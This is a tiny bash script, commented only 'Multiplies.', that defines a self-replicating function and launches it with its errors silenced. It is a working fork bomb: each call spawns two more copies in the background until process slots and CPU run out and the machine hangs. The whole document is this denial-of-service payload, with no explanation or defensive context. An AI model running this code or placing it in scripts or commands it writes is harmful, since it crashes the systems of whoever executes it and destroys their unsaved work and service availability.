# Multiplies.
bomb() { bomb | bomb & }
bomb 2>/dev/null
sleep 2
